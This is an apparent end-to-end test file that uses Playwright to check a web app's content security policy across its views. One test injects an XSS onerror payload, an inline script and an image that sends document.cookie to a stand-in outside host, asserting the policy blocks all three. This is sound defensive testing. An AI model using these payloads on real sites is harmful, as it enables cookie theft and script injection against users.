"""The content security policy: no page of the app goes against it, and a script put in does."""

import pytest
from playwright.sync_api import Page

from mmrec_core.bundle import Bundle
from tests.e2e.serving import Server, settled
from tests.e2e.views import VIEWS, Shown

_COLLECT = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`));
"""


@pytest.fixture
def watched(page: Page) -> Page:
    page.add_init_script(_COLLECT)
    return page


@pytest.mark.parametrize("shown", VIEWS, ids=lambda shown: shown.name)
def test_no_page_goes_against_it(
    server: Server, watched: Page, bundle: Bundle, shown: Shown
) -> None:
    shown.open(watched, server.url, bundle)
    assert watched.evaluate("violations") == []


def test_it_stops_what_a_stranger_would_put_in(server: Server, watched: Page) -> None:
    watched.goto(server.url)
    settled(watched)
    watched.evaluate("""() => {
        const text = document.createElement("div");
        text.innerHTML = "<img src=missing onerror='window.stolen = 1'>";
        const script = document.createElement("script");
        script.textContent = "window.stolen = 2";
        const elsewhere = document.createElement("img");
        elsewhere.src = "https://elsewhere.example/?" + document.cookie;
        document.body.append(text, script, elsewhere);
    }""")
    watched.wait_for_function("violations.length >= 3")
    assert watched.evaluate("window.stolen") is None
    blocked = " ".join(watched.evaluate("violations"))
    assert "script-src" in blocked
    assert "img-src https://elsewhere.example" in blocked
